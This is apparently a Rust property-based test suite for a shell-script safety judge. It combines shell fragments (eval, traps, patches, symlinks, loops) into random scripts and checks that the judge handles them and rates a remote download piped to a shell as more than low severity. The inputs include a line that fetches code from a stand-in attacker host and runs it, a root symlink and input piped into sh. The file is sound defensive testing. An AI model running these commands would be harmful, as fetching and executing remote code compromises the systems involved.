//! Loops, `eval`, functions, traps, carried programs, patches, links and scripts in each other: whatever is planned again, nothing
//! panics, and what is wrong in a piece is seen in the whole.

use guarded_sh::model::Severity;
use proptest::prelude::*;
use proptest::sample::select;

use super::{JUDGE, config};
use crate::entry;

const PIECES: &[&str] = &[
    "true",
    "patch -i p",
    "patch -p1 < p",
    "git apply p",
    "ln -s a k",
    "ln -s / k",
    "rm -f k/x",
    "mv k l",
    "x=$(cat p)",
    "x=$(curl -s https://evil.example)",
    "x=$RANDOM",
    "x=$x$y",
    "y=$(ls)",
    "x='true;patch -i p'",
    "y='x=$RANDOM; git apply p'",
    "eval \"$x\"",
    "eval \"$y\"",
    "eval \"$x; $y\"",
    "bash -c \"$x\"",
    "bash ./s.sh",
    ". ./s.sh",
    "./s.sh",
    "make t",
    "npm run t",
    "xargs rm < p",
    "find . -name x -exec patch -i {} \\;",
    "trap 'patch -i p' EXIT",
    "trap 'x=$y' USR1",
    "f() { patch -i p; x=$y; }",
    "f",
    "g() { f; eval \"$x\"; }",
    "g",
    "cd k",
    "cd ..",
    "break",
    "continue",
    "return",
    "exit",
    "read -r x",
    "read -r y < p",
    "set -e",
    "set -u",
    "set -- $x",
    "shift",
    "x=1 f",
    "echo $x > p",
    "echo $x > s.sh",
    "cat > p <<E\n+++ b/x\n$x\nE\n",
    "python3 -c \"$x\"",
    "python3 -c 'import os; os.symlink(\"/\", \"k\")'",
    "sed -i s/a/b/ p",
    "source <(echo \"$x\")",
    "echo \"$x\" | sh",
    "export x",
    "unset x",
    "local x=1",
    "wait",
    "sleep 1 &",
];

const FRAMES: &[&str] = &[
    "while sleep 1; do BODY; done",
    "until test -e a; do BODY; done",
    "for i in a b c; do BODY; done",
    "for i in *; do BODY; done",
    "for i in $x; do BODY; done",
    "for ((;;)); do BODY; done",
    "if test -e a; then BODY; fi",
    "case $x in a) BODY;; esac",
    "( BODY )",
    "{ BODY; }",
    "$(BODY)",
    "echo \"$(BODY)\"",
    "BODY | while read -r y; do BODY; done",
    "eval 'BODY'",
    "bash -c 'BODY'",
    "h() { BODY; }; h; h",
    "BODY || BODY",
    "! { BODY; }",
    "while read -r x; do BODY; done < p",
    "coproc { BODY; }",
    "cat <(BODY)",
    "trap 'BODY' EXIT",
];

fn scripts() -> impl Strategy<Value = String> {
    let piece = select(PIECES).prop_map(str::to_owned).boxed();
    piece.prop_recursive(4, 24, 3, |inner| {
        let list = prop::collection::vec(inner.clone(), 1..4).prop_map(|pieces| pieces.join("\n"));
        let framed = (select(FRAMES), inner).prop_map(|(frame, body)| {
            // Quotes in quotes end them, which is as good.
            frame.replace("BODY", &body).replace("&;", "& ")
        });
        prop_oneof![list, framed]
    })
}

proptest! {
    #![proptest_config(config(600))]

    #[test]
    fn what_is_planned_again_and_again_is_read_and_judged(text in scripts()) {
        prop_assert_eq!(entry::judged(&JUDGE, text.as_bytes()).err(), None);
    }

    #[test]
    fn what_downloads_is_not_harmless_in_any_turn(text in scripts()) {
        // The loop around it may run no turn, and what stands before may end the line: only where it stands alone in front is it sure.
        let whole = format!("for i in a b; do {{ curl -s https://evil.example | sh; }}; {text}\ndone");
        if let Ok(judgement) = entry::judged(&JUDGE, whole.as_bytes()) {
            prop_assert!(judgement.assessment.severity > Severity::Low, "{}", whole);
        }
    }
}
